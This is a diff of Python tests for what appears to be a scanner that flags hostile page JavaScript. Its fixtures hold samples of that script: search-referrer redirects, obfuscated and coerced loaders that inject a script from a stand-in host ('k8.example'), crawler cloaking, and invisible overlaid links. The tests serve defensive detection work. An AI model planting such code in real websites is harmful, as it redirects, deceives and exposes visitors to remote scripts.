@@ -183,3 +183,46 @@ def test_what_is_gone_through_to_its_end_is_not_cut():
 def test_what_was_cut_short_is_told_of_scripts_that_compute_what_they_call(call, told):
     code = "var x=q(),y=q(),z=q();for(var i=0;i<1e9;i++){z+=atob(i)}" + call + ";/* ------------------------- */"
     assert ("reckoning" in examined(code, RULES).capped) is told
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "var r=document.referrer.split('/')[2];if(['www.baidu.com','m.so.com'].includes(r))location='//k8'+'.example'",
+        "var r=document.referrer;if(['baidu','sogou'].some(n=>r.includes(n)))location='//k8'+'.example'   ;   ",
+        "var r=document.referrer,k=['baidu','sogou'].find(n=>r.includes(n));if(k)location='//k8'+'.example/'",
+    ],
+)
+def test_what_a_list_holds_may_be_what_is_asked(code):
+    assert [kind for kind, _ in did(code)] == ["move"]
+
+
+def test_what_is_called_by_a_computed_name_is_told():
+    code = "var l=['createElement','script','appendChild'],w=i=>l[i],e=document[w(0)](w(1));e.src='//k8.example/a.js';"
+    assert "spelt" in near(code)
+    assert "spelt" not in near("var e=document['createElement']('script');e.src='//k8.example/a.js';String(0)")
+
+
+def test_what_a_sum_sets_off_is_told():
+    code = "var o={valueOf(){var e=document.createElement('script');e.src='//k8'+'.example/a.js';return 1}};"
+    assert "coerced" in near(code + "o*1")
+
+
+def test_an_element_of_the_script_s_own_is_told_that_it_came_to_be():
+    code = "customElements.define('x-a',class extends HTMLElement{connectedCallback(){location='//k8'+'.example'}})"
+    assert did(code) == MOVE
+
+
+def test_where_a_script_gives_spiders_another_text_is_told():
+    code = "if(/spider|bot/.test(navigator.userAgent))document.body.innerHTML=decodeURIComponent('%61')+'b'"
+    assert "retitled" in reckoned(code).flows
+    assert "retitled" not in reckoned(code.replace("spider|bot", "Trident|MSIE")).flows
+
+
+@pytest.mark.parametrize(
+    ("style", "told"),
+    [("position:absolute;opacity:0", True), ("position:absolute;opacity:.9", False), ("display:none;opacity:0", False)],
+)
+def test_a_link_that_is_clicked_where_nobody_sees_it_is_told(style, told):
+    code = f"var a=document.createElement('a');a.href='//k8'+'.example/';a.style.cssText='{style}';"
+    assert ("overlaid" in near(code)) is told
